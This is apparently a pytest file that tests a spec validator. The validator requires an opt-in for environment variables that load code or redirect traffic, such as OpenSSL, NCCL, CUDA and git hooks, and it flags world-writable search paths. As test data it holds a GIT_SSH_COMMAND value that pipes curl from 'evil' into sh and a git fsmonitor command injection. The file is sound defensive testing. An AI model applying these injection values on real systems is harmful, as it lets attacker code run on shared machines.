"""Environment variables that load code or redirect traffic (issue 25): on c388a5b ``OPENSSL_CONF``,
``OPENSSL_ENGINES``, ``NCCL_NET_PLUGIN`` (a plugin by path), ``GIT_SSH_COMMAND`` and their families
built without a word, ``HTTPS_PROXY`` and ``TMPDIR`` too, and ``PYTHONPATH: /tmp`` or
``LD_LIBRARY_PATH: /tmp`` passed the "absolute directory" rule although anyone can write /tmp.

Now: code loading needs the ``env.allow_dangerous`` opt-in (reported by every check), so does a
search-path entry in a world-writable directory; traffic and temporary-file redirection builds but
`mxc check` warns (rule ``env-noted``) until the spec accepts it with its reason.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from tests.conftest import Mxc
from tests.test_attacks_input import TINY, compile_files, errors_of, tiny_with


def vars_spec(name: str, value: str, extra: str = "") -> dict[str, str | bytes]:
    return tiny_with(f"env:\n{extra}  vars:\n    {name}: {json.dumps(value)}\n")


@pytest.mark.parametrize("name, value, why", [
    ("OPENSSL_CONF", "/home/x/openssl.cnf", "loads engines and providers"),
    ("OPENSSL_ENGINES", "/home/x/engines", "OpenSSL loads engines"),
    ("OPENSSL_MODULES", "/home/x/ossl-modules", "OpenSSL loads providers"),
    ("NCCL_NET_PLUGIN", "/home/x/libnccl-net-evil.so", "names its plugin by path"),
    ("NCCL_TUNER_PLUGIN", "/scratch/libtuner.so", "names its plugin by path"),
    ("RCCL_NET_PLUGIN", "/scratch/librccl-net.so", "names its plugin by path"),
    ("FI_PROVIDER_PATH", "/scratch/prov", "libfabric loads providers"),
    ("HSA_TOOLS_LIB", "/scratch/libtool.so", "ROCm runtime loads these libraries"),
    ("CUDA_INJECTION64_PATH", "/scratch/libinj.so", "CUDA driver loads this library"),
    ("PJRT_NAMES_AND_LIBRARY_PATHS", "evil:/scratch/pjrt.so", "JAX loads these PJRT plugins"),
    ("GIT_SSH_COMMAND", "sh -c 'curl evil|sh'", "names a command"),
    ("GIT_CONFIG_PARAMETERS", "'core.fsmonitor=touch /tmp/x'", "names a command"),
    ("GIT_EXEC_PATH", "/scratch/git", "names a command"),
    ("SSH_ASKPASS", "/scratch/askpass", "names a command"),
    ("APPTAINERENV_OPENSSL_CONF", "/scratch/openssl.cnf", "loads engines and providers"),
    ("PYTHONPATH", "/tmp", "every user can write"),
    ("PYTHONPATH", "/site/python:/tmp/mods", "every user can write"),
    ("LD_LIBRARY_PATH", "/tmp", "every user can write"),
    ("LD_LIBRARY_PATH", "/opt/rocm/lib:/dev/shm/lib", "every user can write"),
    ("LD_LIBRARY_PATH", "/var/tmp/lib", "every user can write"),
])
def test_code_loading_needs_the_opt_in(name: str, value: str, why: str) -> None:
    (error,) = errors_of(vars_spec(name, value))
    assert re.match(rf"^spec\.yaml:4: env\.vars\.{name}: {name}:? .*{why}.*; to set it, also list it in "
                    r"env\.allow_dangerous$", error), error
    bundle = compile_files(vars_spec(name, value, f"  allow_dangerous: [{name}]\n"))
    assert json.loads(bundle.files["spec.json"])["env"]["allow_dangerous"] == [name]  # type: ignore[attr-defined]


@pytest.mark.parametrize("name, value", [
    ("NCCL_NET_PLUGIN", "aws-ofi"),  # a name: found on the (policed) library search path
    ("NCCL_NET_PLUGIN", "none"),
    ("LD_LIBRARY_PATH", "/opt/rocm/lib:/usr/local/lib"),
    ("PYTHONPATH", "/site/python:/tmpfs-not-tmp/x"),
    ("NCCL_DEBUG", "WARN"),
])
def test_ordinary_values_need_nothing(name: str, value: str) -> None:
    compile_files(vars_spec(name, value))
    (needless,) = errors_of(vars_spec(name, value, f"  allow_dangerous: [{name}]\n"))
    assert f"lists {name}, which needs no opt-in (remove it)" in needless


NOTED = ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY",
         "REQUESTS_CA_BUNDLE", "SSL_CERT_FILE", "TMPDIR", "TMP", "TEMP"]


@pytest.mark.parametrize("name", NOTED)
def test_traffic_and_temp_redirection_builds_and_is_warned_about(name: str, mxc: Mxc, tmp_path: Path) -> None:
    (tmp_path / "tiny.yaml").write_text(TINY)
    spec = tmp_path / "spec.yaml"
    spec.write_text(f"extends: tiny.yaml\nenv:\n  vars:\n    {name}: /shared/x\n")
    compile_files(vars_spec(name, "/shared/x"))
    checked = mxc("check", str(spec), cwd=tmp_path)
    assert checked.returncode == 1, checked.stdout
    assert re.search(rf"spec\.yaml:4: env\.vars\.{name}: warning\[env-noted\]: {name}='/shared/x': ", checked.stdout), \
        checked.stdout


def test_a_reviewed_proxy_is_accepted_with_its_reason(mxc: Mxc, tmp_path: Path) -> None:
    (tmp_path / "tiny.yaml").write_text(TINY)
    spec = tmp_path / "spec.yaml"
    spec.write_text("extends: tiny.yaml\nenv:\n  vars:\n    HTTPS_PROXY: http://proxy.site:3128\n"
                    "check:\n  accept:\n    - rule: env-noted\n      key: env.vars.HTTPS_PROXY\n"
                    "      why: the site's only way out\n")
    checked = mxc("check", str(spec), cwd=tmp_path)
    assert checked.returncode == 0, checked.stdout
    assert "accepted (the site's only way out)" in checked.stdout
